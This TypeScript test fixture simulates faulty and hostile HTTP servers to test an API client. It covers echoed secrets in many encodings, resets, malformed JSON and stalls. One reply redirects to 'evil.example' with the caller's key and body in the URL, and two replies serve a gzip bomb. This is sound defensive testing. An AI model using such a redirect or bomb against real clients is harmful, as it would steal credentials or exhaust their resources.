/** Every kind of fault in this process, from a server that repeats whatever it was told. */
import { Readable } from "node:stream"
import { setTimeout as after } from "node:timers/promises"
import { createGunzip, gzipSync } from "node:zlib"
import { gzipBomb } from "../faults/variants.js"

/** What a hostile or chatty server knows of a request. */
export interface Told {
  readonly key: string
  readonly body: string
  readonly url: string
  /** The recorded answer of the operation. */
  readonly answer: string
  readonly status: number
}

export type Reply = (told: Told) => Response | Promise<Response>

const json = { "content-type": "application/json" }

const errorText = (status: number, message: string): string => JSON.stringify({ errors: [{ message, code: status }] })

const errorOf = (status: number, message: string, headers: Readonly<Record<string, string>> = {}): Response =>
  new Response(errorText(status, message), { status, headers: { ...json, ...headers } })

const failed = (code: string, words: string): Error =>
  Object.assign(new TypeError(`fetch failed: ${words}`), { cause: Object.assign(new Error(words), { code, words }) })

const escapeHtml = (text: string): string =>
  text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/'/g, "&#39;")

const numericEntities = (text: string): string =>
  Array.from(text)
    .map((char, index) => (index % 2 === 0 ? `&#${char.codePointAt(0)};` : `&#x${char.codePointAt(0)?.toString(16)};`))
    .join("")

const unicodeEscapes = (text: string): string =>
  text
    .split("")
    .map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`)
    .join("")

const everyByte = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("")

/** How somebody may write down what was sent. */
export const spellings: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  "percent-encoded": encodeURIComponent,
  "percent-encoded, lower case": (text) => encodeURIComponent(text).replace(/%../g, (found) => found.toLowerCase()),
  "percent-encoded, every byte": everyByte,
  form: (text) => new URLSearchParams({ k: text }).toString(),
  JSON: (text) => JSON.stringify(text),
  "JSON in JSON": (text) => JSON.stringify(JSON.stringify(text)),
  "unicode escapes": unicodeEscapes,
  HTML: escapeHtml,
  "numeric entities": numericEntities,
  base64: (text) => Buffer.from(text).toString("base64"),
  "base64 of the header": (text) => Buffer.from(`Bearer ${text}`).toString("base64"),
  "base64 of a pair": (text) => Buffer.from(`user:${text}:x`).toString("base64"),
  base64url: (text) => Buffer.from(`a${text}`).toString("base64url"),
  hex: (text) => Buffer.from(text).toString("hex"),
  "upper case": (text) => text.toUpperCase()
}

const echoes = ({ body, key }: Told): string => `we got Bearer ${key} and ${body}`

const everySpelling = (told: Told): string =>
  Object.values(spellings)
    .map((spell) => `${spell(told.key)} ${spell(told.body)}`)
    .join("\n")

const stalled = (text: string): Response =>
  new Response(new ReadableStream({ start: (controller) => controller.enqueue(new TextEncoder().encode(text)) }), {
    headers: json
  })

const cut = (text: string, told: Told, status = 200): Response =>
  new Response(
    new ReadableStream({
      start: (controller) => controller.enqueue(new TextEncoder().encode(text)),
      pull: (controller) => controller.error(failed("ECONNRESET", echoes(told)))
    }),
    { headers: json, status }
  )

/** One letter every few milliseconds, for as long as somebody reads. */
const trickle = (text: string): Response => {
  let index = 0
  return new Response(
    new ReadableStream({
      pull: async (controller) => {
        await after(2)
        controller.enqueue(new TextEncoder().encode(text[index++ % text.length]))
      }
    }),
    { headers: json }
  )
}

/** No `Response` can be made with such a status and a body, but one can come over the wire. */
const withStatus = (status: number, response: Response): Response =>
  Object.defineProperty(response, "status", { value: status })

/** Unpacked while it is read, as fetch does: secrets, and then more than anybody wants to hold. */
const bomb = (told: Told, status: number): Response => {
  const unpacked = Readable.from([gzipSync(errorText(status, echoes(told))), gzipBomb()]).pipe(createGunzip())
  const chunks = unpacked[Symbol.asyncIterator]()
  return new Response(
    new ReadableStream({
      pull: async (controller) => {
        const { done, value } = await chunks.next()
        if (done === true) controller.close()
        else controller.enqueue(value)
      },
      cancel: () => void unpacked.destroy()
    }),
    { status, headers: { ...json, "content-encoding": "gzip" } }
  )
}

/** An answer of the right kind with one wrong member, so that decoding fails with secrets around. */
const almost = ({ answer }: Told, change: (text: string) => string): Response =>
  new Response(change(answer), { headers: json })

export const replies: Readonly<Record<string, Reply>> = {
  healthy: ({ answer, status }) => new Response(status === 204 ? null : answer, { status, headers: json }),
  refused: (told) => Promise.reject(failed("ECONNREFUSED", echoes(told))),
  unresolvable: (told) => Promise.reject(failed("ENOTFOUND", echoes(told))),
  "reset before headers": (told) => Promise.reject(failed("ECONNRESET", echoes(told))),
  "a bad request": (told) => Promise.reject(failed("ERR_INVALID_CHAR", echoes(told))),
  "reset in the body": (told) => cut(told.answer.slice(0, 30), told),
  "reset in an error's body": (told) => cut(echoes(told), told, 500),
  "no headers": () => new Promise(() => undefined),
  "slow headers": (told) => after(lateMillis, errorOf(500, echoes(told))),
  "trickling body": (told) => trickle(echoes(told)),
  "stalled body": ({ answer }) => stalled(answer.slice(0, -1)),
  truncated: (told) => cut(told.answer.slice(0, -1), told),
  "bad JSON": (told) => new Response(`${told.answer.slice(0, -1)},${echoes(told)}`, { headers: json }),
  "empty 200": () => new Response("", { headers: json }),
  "wrong member": (told) =>
    almost(told, (text) => text.replace(/"(?:[a-z_]*_at|kid|client_secret|domain|interval|timestamp)":"/, '$&not "')),
  "wrong everywhere": (told) => almost(told, (text) => text.replace(/"([a-z_]+)":/g, '"$1":["x"],"y_$1":')),
  "wrong shape": (told) =>
    new Response(JSON.stringify({ [told.key]: told.key, data: [echoes(told)], keys: [told.key], secret: told.key }), {
      headers: json
    }),
  "wrong record": (told) =>
    almost(told, (text) => text.replace(/"headers":\{/, () => `"headers":{${JSON.stringify(told.key)}:1,`)),
  "HTML 502": (told) =>
    new Response(`<html><head><title>${escapeHtml(echoes(told))}</title></head><body>${echoes(told)}</body></html>`, {
      status: 502,
      headers: { "content-type": "text/html" }
    }),
  "JSON 503": (told) => errorOf(503, echoes(told)),
  "text 500": (told) => new Response(echoes(told), { status: 500, headers: { "content-type": "text/plain" } }),
  "204 with a body": (told) => withStatus(204, new Response(JSON.stringify({ mark: echoes(told) }), { headers: json })),
  "null 500": () => new Response("null", { status: 500, headers: json }),
  "every spelling as text": (told) => new Response(everySpelling(told), { status: 500 }),
  "every spelling as JSON": (told) => errorOf(500, everySpelling(told)),
  "every spelling in a title": (told) =>
    new Response(`<title>${everySpelling(told).replace(/</g, "&lt;")}</title>`, { status: 502 }),
  "cut in the middle of the key": (told) => errorOf(500, `${"x".repeat(4096 - 20)}${told.key}`),
  "text cut in the middle of the key": (told) => new Response(`${"x".repeat(500 - 20)}${told.key}`, { status: 500 }),
  "429": (told) => errorOf(429, `${echoes(told)} Retry after 40 seconds`, { "retry-after": "1" }),
  "400": (told) => errorOf(400, echoes(told)),
  "401": (told) => errorOf(401, echoes(told)),
  "403": (told) => errorOf(403, echoes(told)),
  "404": (told) => errorOf(404, echoes(told)),
  "408": (told) => errorOf(408, echoes(told)),
  "409": (told) => errorOf(409, echoes(told)),
  redirect: (told) =>
    new Response(null, {
      status: 307,
      headers: {
        location: `https://evil.example/?k=${encodeURIComponent(told.key)}&b=${encodeURIComponent(told.body)}`
      }
    }),
  gzip: ({ answer }) => new Response(gzipSync(answer), { headers: json }),
  "gzip bomb": (told) => bomb(told, 200),
  "gzip bomb with a 503": (told) => bomb(told, 503),
  "too large": ({ answer }) => new Response(answer + " ".repeat(40_000), { headers: json }),
  "64-bit number id": ({ answer }) => new Response(answer.replace(/"(\d{16,19})"/g, "$1"), { headers: json })
}

/** The limit of an attempt where only a limit ends it; a slow server answers after it. */
export const limitMillis = 30
export const lateMillis = 45

/** Only a time limit ends these. */
export const endless: ReadonlySet<string> = new Set(["no headers", "slow headers", "stalled body", "trickling body"])
